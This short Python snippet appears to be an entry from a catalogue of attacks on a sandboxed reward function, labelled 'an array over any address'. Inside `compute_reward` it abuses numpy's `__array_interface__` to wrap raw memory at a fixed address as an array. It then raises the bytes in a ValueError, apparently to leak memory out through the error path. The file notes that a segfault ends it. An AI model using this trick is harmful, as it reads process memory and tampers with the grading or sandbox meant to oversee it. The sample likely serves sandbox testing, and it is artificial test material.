# attack: an array over any address
# group: numpy
# wall: language; alone: SIGSEGV ends it

def compute_reward(x):
    A = type('A', (), {'__array_interface__': {'shape': (1 << 20,), 'typestr': '|u1', 'data': (4096, False), 'version': 3}})
    raise ValueError(np.array(A()).tobytes())
